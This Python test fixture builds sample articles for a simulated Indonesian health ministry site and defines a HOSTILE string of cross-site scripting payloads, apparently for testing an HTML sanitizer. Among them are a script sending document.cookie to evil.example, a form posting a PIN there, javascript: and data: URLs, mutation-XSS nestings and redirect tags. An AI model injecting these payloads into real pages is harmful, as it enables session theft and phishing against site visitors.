"""Articles of the simulated site of the health ministry."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Article:
    """One article. The address of an article with a `number` contains the date, otherwise only the slug."""

    slug: str
    title: str
    text: str  # HTML of the article, as the site's editors wrote it
    day: str = "20260215"
    number: int | None = None
    rubric: str = "rilis-berita"

    @property
    def path(self) -> str:
        if self.number is None:
            return f"/{self.slug}"
        return f"/baca/{self.rubric}/{self.day}/{self.number}/{self.slug}/"

    @property
    def picture(self) -> str:
        return f"/wp-content/uploads/2026/02/{self.slug}.jpg"

    @property
    def published(self) -> str:
        """Return the date and time in RFC 3339, in the site's time zone (WIB)."""
        return f"{self.day[:4]}-{self.day[4:6]}-{self.day[6:]}T09:30:00+07:00"


def _prose(subject: str) -> str:
    return f"""
<p><strong>Jakarta</strong> &ndash; {subject} perlu dikenali sejak dini agar pengobatan berjalan baik.
Dokter menganjurkan pemeriksaan rutin paling sedikit sekali setahun, terutama bagi yang memiliki riwayat
keluarga.</p>
<h2>Apa yang dapat dilakukan?</h2>
<ul><li>Makan makanan bergizi seimbang</li><li>Bergerak paling sedikit 30&nbsp;menit sehari</li>
<li>Minum obat sesuai anjuran dokter</li></ul>
<p>Keterangan lain ada di <a href="/ministry/artikel?utm_campaign=isi" target="_blank">halaman artikel</a>.
Suhu ruang penyimpanan obat di bawah 30 °C – “jangan” di dekat jendela.</p>
<figure><img src="/ministry/wp-content/uploads/2026/02/isi.jpg" alt="Gambar" onclick="track()">
<figcaption>Foto: Humas</figcaption></figure>
"""


#: Dangerous HTML that a hacked or careless site could serve inside an article.
HOSTILE = """
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert(1)"><svg/onload=alert(2)><svg><script>alert(3)</script></svg>
<a href="javascript:alert(4)">klik</a> <a href="JaVa&#09;Script:alert(5)">klik juga</a>
<a href="data:text/html,<script>alert(6)</script>">data</a> <a href="vbscript:msgbox(1)">vb</a>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
<form action="https://evil.example/"><input name="pin">
<button formaction="javascript:alert(7)">Masuk</button></form>
<p style="background:url(javascript:alert(8));position:fixed" onmouseover="alert(9)" id="__proto__">gaya</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(10)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(11)>"></noscript>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import 'https://evil.example/y.css';</style>
<template><script>alert(12)</script></template><!-- <script>alert(13)</script> --><img src="http://10.0.0.1/pixel.gif">
"""


def articles() -> list[Article]:
    """Return articles with both kinds of addresses (with and without a date). Some titles have special characters."""
    return [
        Article("mengenal-diabetes-sejak-dini", "Mengenal Diabetes Sejak Dini", _prose("Diabetes"), number=5120),
        Article("tips-menjaga-tekanan-darah", "Tekanan Darah: 120/80 & Seterusnya", _prose("Hipertensi")),
        Article(
            "kesehatan-jiwa-remaja",
            "Kesehatan Jiwa Remaja – “Cerita, Yuk!”",
            _prose("Gangguan cemas"),
            day="20260131",
            number=5077,
            rubric="sehat-jiwa",
        ),
        Article("cuci-tangan-pakai-sabun", "Cuci Tangan <b>Pakai</b> Sabun", _prose("Diare"), day="20260120"),
        Article("imunisasi-dasar-lengkap", "Imunisasi Dasar Lengkap", _prose("Campak"), "20260105", number=4980),
    ]
